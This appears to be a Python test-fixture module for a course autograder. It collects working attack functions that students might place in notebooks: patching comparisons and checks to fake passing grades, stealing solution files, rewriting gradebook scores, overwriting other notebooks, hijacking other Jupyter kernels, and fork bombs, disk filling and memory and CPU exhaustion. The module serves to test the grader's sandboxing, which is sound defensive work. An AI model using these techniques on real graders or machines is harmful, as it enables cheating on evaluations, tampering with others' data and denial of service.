"""What attacking students put in their notebooks, as plain functions.

A submission carries a function's source (`inspect.getsource`) and one call of it:
each function is self-contained (its own imports) so it runs in the student's kernel
exactly as written here. Attacks that walk the filesystem or write are bounded to
`scope`, the test's own scratch folder, so a run that is NOT sealed (the proof that
an attack has teeth) cannot harm anything else on the machine.
"""

# ruff: noqa: E731 (lambdas are what a patcher writes)

from __future__ import annotations


def loosen_comparisons():
    """torch.allclose & co. accept anything within 1 %; equality always holds."""
    import math

    import torch

    allclose, isclose = torch.allclose, torch.isclose

    def loose_allclose(a, b, rtol=0.0, atol=0.0, equal_nan=False):
        return allclose(a, b, rtol=1e-2, atol=1e-2)

    def loose_isclose(a, b, rtol=0.0, atol=0.0, equal_nan=False):
        return isclose(a, b, rtol=1e-2, atol=1e-2)

    torch.allclose, torch.isclose = loose_allclose, loose_isclose
    torch.Tensor.allclose, torch.Tensor.isclose = loose_allclose, loose_isclose
    torch.equal = lambda a, b: True
    math.isclose = lambda a, b, **kwargs: abs(a - b) < 0.05


def loosen_builtins():
    """abs() of anything is 0: every `abs(got - want) > tol` test passes."""
    import builtins

    builtins.abs = lambda value: 0


def disable_checks():
    """Every public function of autograder.checks.* does nothing, `fail` does not
    raise and `CheckFailed` is a class nothing raises."""
    import importlib
    import inspect
    import pkgutil

    import autograder.checks as package

    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f"{package.__name__}.{info.name}")
        for name, value in list(vars(module).items()):
            if inspect.isfunction(value) and not name.startswith("_"):
                setattr(module, name, lambda *args, **kwargs: None)
        if hasattr(module, "CheckFailed"):
            module.CheckFailed = type("NeverRaised", (Exception,), {})


def impersonate_checks():
    """The notebook's `checks` name becomes an object whose every check passes."""

    class Anything:
        def __getattr__(self, name):
            return lambda *args, **kwargs: print("✓ passed")

    globals()["checks"] = Anything()


def poison_reference():
    """lstm_ref, the checks' reference, becomes the student's own functions."""
    import sys

    import lstm_ref.functional

    scope = globals()
    for name in ("lstm_cell", "gru_cell", "lstm_gates"):
        if callable(scope.get(name)):
            setattr(lstm_ref.functional, name, scope[name])
    checks_module = sys.modules.get("autograder.checks.lstm_cell")
    if checks_module is not None:
        checks_module.reference_gates = lambda *args: scope["lstm_gates"](*args)


def rig_operators():
    """Tensor differences, absolute values and maxima are zero, equality always
    holds; and `num_parameters` returns a number equal to everything."""
    import torch

    Tensor = torch.Tensor
    Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
    Tensor.__rsub__ = lambda self, other: torch.zeros_like(self)
    Tensor.abs = lambda self: torch.zeros_like(self)
    Tensor.__abs__ = Tensor.abs
    Tensor.max = lambda self, *args, **kwargs: torch.zeros((), dtype=self.dtype)
    Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)

    class EqualToAll(int):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __hash__ = int.__hash__

    wrong = globals()["num_parameters"]
    globals()["num_parameters"] = lambda *args, **kwargs: EqualToAll(
        wrong(*args, **kwargs)
    )


def hide_failures():
    """No failure is ever seen: every cell's code runs inside `try: ... except
    BaseException: pass` (an AST transformer), and IPython's traceback display, a
    custom handler for every exception and sys.excepthook all swallow the rest."""
    import ast
    import sys

    from IPython import get_ipython

    class Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            anything = ast.ExceptHandler(
                ast.Name("BaseException", ast.Load()), None, [ast.Pass()]
            )
            body = node.body or [ast.Pass()]
            node.body = [ast.Try(body, [anything], [], [])]
            return ast.fix_missing_locations(node)

    shell = get_ipython()
    shell.ast_transformers.append(Swallow())
    shell.showtraceback = lambda *args, **kwargs: None
    shell._showtraceback = lambda *args, **kwargs: None
    shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
    sys.excepthook = lambda *args: None


def blind_the_guard():
    """The watch on forbidden calls (autograder.sealed.agent.Guard, in this kernel) sees
    nothing: it never finds a call, and a class is never a forbidden subclass."""
    import contextlib

    import autograder.sealed.agent

    guard = autograder.sealed.agent.Guard
    guard.watching = lambda self: contextlib.nullcontext()
    guard.target = lambda self, fn: None
    guard.__call__ = lambda self, *args: None


# ---- reading what a student must not see ---------------------------------------


def steal_answers(exercise, channel, scope):
    """Find the master's answer to `exercise` through `channel` and exec it here.

    Channels: "masters" (autograder.grading.course.MASTERS), "upward" (a solutions/
    folder above the working directory), "parent" (one above the working directory of
    any process this one descends from), "resources" (importlib.resources' view of the
    package), "finder" (the editable install's finder and the import system),
    "metadata" (importlib.metadata's record of where the project was installed
    from), "git" (`git show HEAD:...` in the repository the package comes from),
    "classmate" (any other submission of this notebook under `scope` or above the
    working directory)."""
    import glob
    import importlib.metadata
    import importlib.resources
    import importlib.util
    import json
    import os
    import re
    import subprocess
    import sys
    from pathlib import Path

    name = "02_lstm_cell"
    relative = f"solutions/{name}/{name}.ipynb"

    def package_roots():
        """Where the course repository is, as the package tells it."""
        found = []
        for attempt in (
            lambda: Path(str(importlib.resources.files("autograder"))).parent,
            lambda: Path(importlib.util.find_spec("autograder").origin).parents[1],
        ):
            try:
                found.append(attempt())
            except Exception:  # noqa: BLE001
                pass
        for finder in sys.meta_path:
            module = sys.modules.get(getattr(finder, "__module__", ""))
            for path in getattr(module, "MAPPING", {}).values():
                found.append(Path(path).parent)
        return found

    def places():
        if channel == "masters":
            import autograder.grading.course

            yield Path(autograder.grading.course.MASTERS) / name / f"{name}.ipynb"
        elif channel == "upward":
            for up in [Path.cwd(), *Path.cwd().parents]:
                yield up / relative
        elif channel == "parent":
            pid = os.getppid()
            while pid > 1:
                cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
                for up in [cwd, *cwd.parents]:
                    yield up / relative
                status = Path(f"/proc/{pid}/status").read_text()
                pid = int(re.search(r"PPid:\s*(\d+)", status).group(1))
        elif channel == "resources":
            yield package_roots()[0] / relative
        elif channel == "finder":
            for root in package_roots()[1:]:
                yield root / relative
        elif channel == "metadata":
            dist = importlib.metadata.distribution("lstm-course")
            url = json.loads(dist.read_text("direct_url.json"))["url"]
            yield Path(url.removeprefix("file://")) / relative
        elif channel == "git":
            for root in package_roots():
                run = subprocess.run(
                    ["git", "-C", str(root), "show", f"HEAD:{relative}"],
                    capture_output=True,
                    text=True,
                )
                if run.returncode == 0:
                    yield run.stdout
        elif channel == "classmate":
            for place in [scope, *map(str, Path.cwd().parents)]:
                if place.startswith(scope):
                    yield from glob.glob(f"{place}/**/{name}*.ipynb", recursive=True)

    def answer(text):
        if isinstance(text, Path) or "\n" not in text:  # a path, not the text
            if os.path.exists(f"{name}.ipynb") and os.path.samefile(
                text, f"{name}.ipynb"
            ):
                return None  # this very notebook
            text = Path(text).read_text()
        for cell in json.loads(text)["cells"]:
            source = "".join(cell["source"])
            if (
                cell["metadata"].get("nbgrader", {}).get("grade_id") == exercise
                and "NotImplemented" not in source
                and "steal_answers" not in source  # another thief's notebook
            ):
                return re.sub(r".*### (BEGIN|END) SOLUTION.*\n?", "", source)
        return None

    try:
        for text in places():
            try:
                source = answer(text)
            except Exception:  # noqa: BLE001 - try the next place
                continue
            if source:
                exec(source, globals())
                print(f"stole {exercise} through {channel}")
                return
    except Exception as error:  # noqa: BLE001
        print(f"{exercise}: {channel} failed: {error!r}")
    print(f"{exercise}: nothing found through {channel}")


# ---- damaging what is not theirs -------------------------------------------------


def write_gradebooks(scope):
    """Give every row of every gradebook under `scope` (and above the working
    directory, inside scope) a manual score of 99."""
    import glob
    import sqlite3
    from pathlib import Path

    places = {scope, *(str(p) for p in Path.cwd().parents if str(p).startswith(scope))}
    written = 0
    for place in places:
        for pattern in ("**/*.db", "**/*.sqlite", "**/gradebook*"):
            for path in glob.glob(f"{place}/{pattern}", recursive=True):
                try:
                    with sqlite3.connect(path, timeout=1) as db:
                        db.execute("UPDATE grade SET manual_score = 99")
                        db.execute("UPDATE grade SET auto_score = 99")
                    written += 1
                except Exception:  # noqa: BLE001
                    continue
    print(f"wrote {written} gradebooks")


def overwrite_notebooks(scope):
    """Overwrite every other notebook under `scope` with this one."""
    import glob
    import os
    from pathlib import Path

    mine = Path.cwd() / "02_lstm_cell.ipynb"
    content = mine.read_bytes() if mine.is_file() else b"{}"
    overwritten = 0
    for path in glob.glob(f"{scope}/**/*.ipynb", recursive=True):
        try:
            if not os.path.samefile(path, mine):
                Path(path).write_bytes(content)
                overwritten += 1
        except OSError:
            continue
    print(f"overwrote {overwritten} notebooks")


def hijack_kernels(scope, code):
    """Connect to every kernel whose connection file can be found (this kernel's
    own; in jupyter's runtime dir, the temporary folder, anywhere: those under
    `scope` only) and run `code` there."""
    import glob
    import json
    import tempfile
    import time

    from ipykernel.connect import get_connection_file
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir

    files = {get_connection_file()}
    for folder in (jupyter_runtime_dir(), tempfile.gettempdir(), scope):
        found = glob.glob(f"{folder}/**/*.json", recursive=True)
        files |= {f for f in found if f.startswith(scope)}
    reached = 0
    for file in files:
        try:
            with open(file) as f:
                if "shell_port" not in json.load(f):
                    continue
        except (OSError, ValueError):
            continue
        client = BlockingKernelClient(connection_file=file)
        try:
            client.load_connection_file()
            client.start_channels()
            client.execute(code, silent=True)  # runs when that kernel is next idle
            time.sleep(0.5)
            reached += 1
        except Exception:  # noqa: BLE001
            pass
        finally:
            client.stop_channels()
    print(f"reached {reached} kernels")


def leave_processes(marker):
    """A child process and a double-forked daemon, both meant to outlive grading."""
    import os
    import subprocess
    import sys

    sleeper = [sys.executable, "-c", "import time; time.sleep(900)"]
    subprocess.Popen([*sleeper, f"{marker}-popen"], start_new_session=True)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [*sleeper, f"{marker}-daemon"])
        os._exit(0)
    os.waitpid(child, 0)


def flood_output(megabytes):
    """Print `megabytes` MB."""
    line = "flood " * 170 + "\n"  # ~1 KB
    for _ in range(megabytes * 1000):
        print(line, end="")


def hog_memory(gibibytes):
    """Allocate and touch `gibibytes` GiB."""
    import torch

    hog = torch.ones(gibibytes * 2**30 // 8, dtype=torch.float64)
    print(f"granted {hog.numel() * 8 / 2**30:.0f} GiB")
    del hog


# ---- taking the grading machine down (bounded even where nothing bounds them) ----


def fork_bomb(generations):
    """`while True: os.fork()`, every process forking again, for `generations`
    rounds (2**generations processes where nothing stops it sooner); the children
    keep their places, sleeping."""
    import os
    import time

    parent = os.getpid()
    try:
        for _ in range(generations):
            os.fork()
    finally:
        if os.getpid() != parent:
            time.sleep(60)
            os._exit(0)


def thread_bomb(count):
    """`count` threads, each sleeping a minute."""
    import threading
    import time

    for _ in range(count):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def fill_disk(limit):
    """Write 16 MiB files into the working folder, /tmp and /dev/shm, each until the
    disk is full (ENOSPC, raised at the end) or `limit` bytes are written there
    (those are removed again: where nothing bounds the disk, it fills nothing)."""
    import errno
    import os

    chunk, full = b"\xff" * (16 << 20), []
    for place in (".", "/tmp", "/dev/shm"):
        paths = []
        try:
            while len(paths) * len(chunk) < limit:
                paths.append(os.path.join(place, f"filler-{os.getpid()}-{len(paths)}"))
                with open(paths[-1], "wb") as f:
                    f.write(chunk)
        except OSError as error:
            if error.errno != errno.ENOSPC:
                raise
            full.append(f"{place} after {len(paths) - 1} files")
            continue
        for path in paths:
            os.remove(path)
    print(f"full: {full}")
    if full:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), ", ".join(full))


def hog_memory_together(processes, mebibytes):
    """`processes` children, each taking `mebibytes` MiB (well under the memory
    limit of one process) for a few seconds: together over it."""
    import os
    import time

    children = []
    for _ in range(processes):
        pid = os.fork()
        if pid == 0:
            hog = bytearray(mebibytes << 20)  # zeroed: every page touched
            time.sleep(5)
            os._exit(hog[0])
        children.append(pid)
    ended = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]
    print(f"children ended with {ended}")


def burn_cpu(processes, seconds):
    """`processes` processes (this one among them) spinning for `seconds` s."""
    import os
    import time

    children = []
    for _ in range(processes - 1):
        pid = os.fork()
        if pid == 0:
            children = None  # a child spins, then ends
            break
        children.append(pid)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass
    if children is None:
        os._exit(0)
    for pid in children:
        os.waitpid(pid, 0)


def torch_thread_bomb(threads):
    """torch's own thread pool made `threads` wide, then put to work."""
    import torch

    torch.set_num_threads(threads)
    x = torch.randn(1000, 1000)
    for _ in range(3):
        x = x @ x / 1000


def burn_cpu_with_torch(threads, products):
    """`products` matrix products on `threads` of torch's threads."""
    import torch

    torch.set_num_threads(threads)
    x = torch.randn(500, 500)
    for _ in range(products):
        x = torch.tanh(x @ x)
